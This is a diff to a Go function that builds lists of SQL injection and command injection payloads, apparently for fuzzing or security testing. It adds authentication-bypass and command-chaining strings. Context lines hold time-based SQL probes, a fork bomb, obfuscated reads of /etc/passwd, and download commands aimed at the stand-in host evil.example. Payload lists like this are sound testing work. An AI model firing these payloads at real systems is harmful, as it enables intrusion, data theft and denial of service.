@@ -68,7 +68,7 @@ func grammarAttacks() map[string][]string {
 	// SQL fragments without quotes, and statements.
 	m["sqli"] = append(m["sqli"], cross(" ", []string{"1", "1)", "-1"}, []string{"AND", "OR", "&&", "||"}, []string{"1=1", "2>1", "1=1--", "1=1#", "1 LIKE 1", "5 BETWEEN 1 AND 9"})...)
 	m["sqli"] = append(m["sqli"], cross(" ", []string{"1", "1'", "name"}, []string{"ORDER BY", "GROUP BY"}, []string{"1--", "3#", "10 /*", "1,2,3--"})...)
-	for _, stmt := range []string{"SELECT @@version", "select version()", "SELECT user()", "select banner from v$version", "SELECT * FROM information_schema.tables", "select name from sysibm.systables", "SELECT table_name FROM all_tables", "select * from pg_catalog.pg_tables", "select sql from sqlite_master", "SELECT name FROM sys.databases", "SELECT 1 FROM dual", "DECLARE @q varchar(99) SET @q='x' EXEC(@q)", "1 AND SLEEP(5)", "1 or pg_sleep(5)", "1;WAITFOR DELAY '0:0:5'--", "1 AND 1=(SELECT 1)", "IF((SELECT 1)=1,SLEEP(3),0)"} {
+	for _, stmt := range []string{"SELECT @@version", "select version()", "SELECT user()", "select banner from v$version", "SELECT * FROM information_schema.tables", "select name from sysibm.systables", "SELECT table_name FROM all_tables", "select * from pg_catalog.pg_tables", "select sql from sqlite_master", "SELECT name FROM sys.databases", "SELECT 1 FROM dual", "DECLARE @q varchar(99) SET @q='x' EXEC(@q)", "1 AND SLEEP(5)", "1 or pg_sleep(5)", "1;WAITFOR DELAY '0:0:5'--", "admin' #", "admin'--", "1 HAVING 1=1", "1 AND 1=(SELECT 1)", "IF((SELECT 1)=1,SLEEP(3),0)"} {
 		m["sqli"] = append(m["sqli"], stmt, strings.ReplaceAll(stmt, " ", "/**/"))
 	}
 
@@ -86,7 +86,7 @@ func grammarAttacks() map[string][]string {
 			m["rce"] = append(m["rce"], "127.0.0.1"+p, "report.pdf"+p)
 		}
 	}
-	m["rce"] = append(m["rce"], "<(cat /etc/hosts)", ">(tee /tmp/x)", "$(cmd)", ":(){ :|:& };:", "f(){ f|f& };f", "{,ip,a}", "/e[t]c/pa[s]swd", "cat /et?/pa??wd",
+	m["rce"] = append(m["rce"], "\nid", ";id", "|whoami", "<(cat /etc/hosts)", ">(tee /tmp/x)", "$(cmd)", ":(){ :|:& };:", "f(){ f|f& };f", "{,ip,a}", "/e[t]c/pa[s]swd", "cat /et?/pa??wd",
 		"'wh'oami", `w\hoami`, `"w"get evil.example`, "alias x=id;x", "FOR /F %G IN ('dir /b') DO echo %G", "for %i in (*) do type %i",
 		"IF EXIST C:\\boot.ini ECHO found", "if %ERRORLEVEL% NEQ 0 echo x", "cmd /c whoami", "powershell -enc SQBFAFgA", "Invoke-WebRequest http://evil.example/x.ps1")
 
